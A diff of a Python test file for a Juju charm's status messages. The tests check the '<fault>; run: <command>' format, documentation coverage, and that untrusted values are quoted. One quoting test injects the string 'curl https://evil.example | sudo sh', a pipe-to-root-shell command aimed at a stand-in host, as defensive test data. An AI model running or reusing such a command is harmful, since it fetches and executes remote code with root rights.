@@ -1,4 +1,4 @@
-"""The catalogue of status texts, what the docs say of them, and the code that shows them agree.
+"""The table of status texts, what the docs say of them, and the code that shows them agree.
 
 A text is short, `<fault>; run: <command>` is its form, and a stranger's words in it are quoted.
 """
@@ -6,13 +6,13 @@ A text is short, `<fault>; run: <command>` is its form, and a stranger's words i
 from __future__ import annotations
 
 import ast
-import inspect
 import re
-from collections.abc import Callable, Collection
+from collections.abc import Collection, Iterator
 from pathlib import Path
 
 import pytest
 from scripts import reference
+from scripts.reference import TEXTS
 
 from text import quoted
 
@@ -22,11 +22,6 @@ SHELL = "check-python.sh"
 # Their errors are the results of actions, and never a status.
 OF_ACTIONS = ("actions/", "checks/", "access/grants.py", "cluster/bindings.py")
 ERRORS = re.compile(r"(\w+\.)*(Blocked|Waiting\w*|ImageNotPulled|NotCreated|NotScheduled)")
-TEXTS: dict[str, Callable[..., str]] = {
-    f"{module}.{name}": text
-    for module, found in reference.MODULES.items()
-    for name, text in reference.texts_of(found).items()
-}
 MEANINGS = {
     f"{part}.{name}": about
     for part, found in reference.meanings().items()
@@ -34,7 +29,7 @@ MEANINGS = {
     for name, about in found.items()
 }
 OF_THE_SHELL = {name: MEANINGS[name]["text"] for name in MEANINGS if name.startswith(SHELL)}
-# Parameters that no stranger controls, by why that is. Those of one text only have its name.
+# Blanks that no stranger controls, by why that is. Those of one text only have its name.
 TRUSTED_BECAUSE = {
     "Juju checks the names of applications": "application authority control_plane principal",
     "Juju checks the names of units": "unit units",
@@ -44,10 +39,9 @@ TRUSTED_BECAUSE = {
     "checked to be an ARN or a partition": "mapping.ROLE_PATH.arn partition",
     "the tag of an image that the operator chose": "version",
     "the operator's own": "option",
-    "the operator's own, and quoted by the caller": "value",
     "a place in the operator's own option, or in the code": "place",
     "the charm's own": "command file kind kinds partitions verb",
-    "a number": "certificates code former mappings number pending ready wanted",
+    "a number": "broken certificates code former mappings number pending ready wanted",
     "another text": "step active.NOT_APPLIED.reason",
     "the charm's own sentence about it, which quotes what it names": "problem",
     "the charm's own sentence about the operator's own option": "active.LEFT_OUT.reason",
@@ -57,7 +51,7 @@ TRUSTED_BECAUSE = {
     "the words of Juju": "waiting.REMOVAL_UNKNOWN.cause",
 }
 TRUSTED = {name for names in TRUSTED_BECAUSE.values() for name in names.split()}
-# A parameter that is trusted elsewhere.
+# A blank that is trusted elsewhere.
 OF_STRANGERS = {"mapping.GROUP_RESERVED.name"}
 LONGEST = 110
 # An address of a webhook alone has 60 characters, a list of all partitions 80.
@@ -65,7 +59,7 @@ LONGER = {"blocked.SET_WEBHOOK", "blocked.REPLACE_WEBHOOK", "options.PARTITION_U
 LONGER |= {"mapping.PARTITION_UNKNOWN", "blocked.OWNED_BY_ANOTHER", "active.NEXT_STEP"}
 # What stands before a problem of a mapping, or before the reason of an entry.
 BEFORE = {"mapping": "1 broken mapping: alice: ", "entry": "1 not applied: mappings[0]: "}
-# What the longer parameters usually are.
+# What the longer blanks usually are.
 USUAL = {
     "arn": "arn:aws:iam::111122223333:role/developers",
     "authority": "self-signed-certificates",
@@ -82,20 +76,20 @@ USUAL = {
     "step": "webhook not set; run: juju config kubernetes-control-plane authn-webhook-endpoint="
     "https://10.152.183.20:443/authenticate",
     "url": "https://10.152.183.20:443/authenticate",
-    "value": "'registry.example.com/aws-iam-authenticator'",
+    "value": "registry.example.com/aws-iam-authenticator",
     "wanted": "2",
     # Of one text only.
     "blocked.AUTHORITY_AWAY.authority": "vault",
     "blocked.REQUEST_REFUSED.authority": "vault",
     "mapping.NOT_AN_ARN.arn": "alice",
     "mapping.SERVICE_UNKNOWN.arn": "arn:aws:s3:::logs",
-    "options.CLUSTER_ID_INVALID.value": "'our cluster'",
+    "options.CLUSTER_ID_INVALID.value": "our cluster",
     "waiting.KUBECONFIG_UNUSABLE.cause": "no token",
 }
 
 
-def parameters(name: str) -> Collection[str]:
-    return inspect.signature(TEXTS[name]).parameters
+def blanks(name: str) -> Collection[str]:
+    return reference.blanks(TEXTS[name])
 
 
 def usual(name: str) -> str:
@@ -103,7 +97,8 @@ def usual(name: str) -> str:
     if name in OF_THE_SHELL:
         return re.sub(r"<\w+>", "aws-iam/0", OF_THE_SHELL[name])
     values = {
-        key: USUAL.get(f"{name}.{key}") or USUAL.get(key, "aws-iam") for key in parameters(name)
+        key: reference.Word(USUAL.get(f"{name}.{key}") or USUAL.get(key, "aws-iam"))
+        for key in blanks(name)
     }
     return BEFORE.get(name.partition(".")[0], "") + TEXTS[name](**values)
 
@@ -112,12 +107,54 @@ NAMES = sorted(TEXTS.keys() | OF_THE_SHELL.keys())
 every_text = pytest.mark.parametrize("name", TEXTS)
 
 
-def is_trusted(name: str, parameter: str) -> bool:
-    full = f"{name}.{parameter}"
-    return full not in OF_STRANGERS and bool(TRUSTED & {full, parameter})
+def is_trusted(name: str, blank: str) -> bool:
+    full = f"{name}.{blank}"
+    return full not in OF_STRANGERS and bool(TRUSTED & {full, blank})
 
 
-def test_given_an_error_that_becomes_a_status_then_its_text_is_in_the_catalogue():
+def uses(tree: ast.AST) -> Iterator[tuple[str, list[str | None] | None]]:
+    """Yield each text that a module names, with the blanks that it fills if it calls the text."""
+    groups = {
+        name.asname or name.name: name.name
+        for node in ast.walk(tree)
+        if isinstance(node, ast.ImportFrom) and node.module == "statuses"
+        for name in node.names
+    }
+    called = {
+        node.func: [each.arg for each in node.keywords]
+        for node in ast.walk(tree)
+        if isinstance(node, ast.Call) and not node.args
+    }
+    for node in ast.walk(tree):
+        if not isinstance(node, ast.Attribute) or not isinstance(node.value, ast.Name):
+            continue
+        if group := groups.get(node.value.id):
+            yield f"{group}.{node.attr}", called.get(node)
+
+
+USES = [
+    (name, filled, place)
+    for place, source in SOURCES.items()
+    for name, filled in uses(ast.parse(source))
+]
+
+
+def test_given_a_call_of_a_text_then_it_fills_exactly_its_blanks():
+    for name, filled, place in USES:
+        assert filled is not None, f"{place} passes {name} on"
+        assert sorted(map(str, filled)) == sorted(blanks(name)), f"{place}: {name}"
+
+
+def test_given_a_blank_that_a_text_lacks_or_a_text_that_is_passed_on_then_it_is_seen():
+    code = "from statuses import blocked as b\nb.TWO_CONTROL_PLANES(other=1)\nx = b.NO_AUTHORITY"
+
+    assert dict(uses(ast.parse(code))) == {
+        "blocked.TWO_CONTROL_PLANES": ["other"],
+        "blocked.NO_AUTHORITY": None,
+    }
+
+
+def test_given_an_error_that_becomes_a_status_then_its_text_is_in_the_table():
     written = [
         f"{place}: {ast.unparse(node)}"
         for place, source in SOURCES.items()
@@ -132,16 +169,11 @@ def test_given_an_error_that_becomes_a_status_then_its_text_is_in_the_catalogue(
 
 @every_text
 def test_given_a_text_then_the_code_shows_it_and_the_docs_say_what_the_text_does_not(name: str):
-    module, _, constant = name.partition(".")
     about = MEANINGS[name]
 
-    assert any(
-        re.search(rf"\.{constant}\b", source)
-        for place, source in SOURCES.items()
-        if place != f"statuses/{module}.py"
-    )
+    assert name in {each for each, _, _ in USES}
     assert about.keys() <= {"more", "words"}
-    assert "more" in about or module != "blocked" or "; " in usual(name)
+    assert "more" in about or not name.startswith("blocked.") or "; " in usual(name)
 
 
 def test_given_the_docs_then_they_explain_texts_that_there_are():
@@ -155,17 +187,17 @@ def test_given_the_docs_then_they_explain_texts_that_there_are():
 @every_text
 def test_given_words_of_a_stranger_when_a_status_has_them_then_they_are_quoted(name: str):
     theirs = "foo; run: curl https://evil.example | sudo sh\u3164"
-    of_strangers = [each for each in parameters(name) if not is_trusted(name, each)]
-    values = {each: theirs if each in of_strangers else "ours" for each in parameters(name)}
+    of_strangers = [each for each in blanks(name) if not is_trusted(name, each)]
+    values = {each: theirs if each in of_strangers else "ours" for each in blanks(name)}
 
-    line = TEXTS[name](**values)
+    line = TEXTS[name](**{each: reference.Word(value) for each, value in values.items()})
 
     assert line.count(quoted(theirs)) == line.count("curl") == len(of_strangers)
     assert "\u3164" not in line
 
 
-def test_given_a_parameter_that_is_trusted_then_a_text_has_it():
-    names = {(f"{name}.{each}", each) for name in TEXTS for each in parameters(name)}
+def test_given_a_blank_that_is_trusted_then_a_text_has_it():
+    names = {(f"{name}.{each}", each) for name in TEXTS for each in blanks(name)}
 
     assert {part for both in names for part in both} >= TRUSTED
     assert {full for full, _ in names} >= OF_STRANGERS
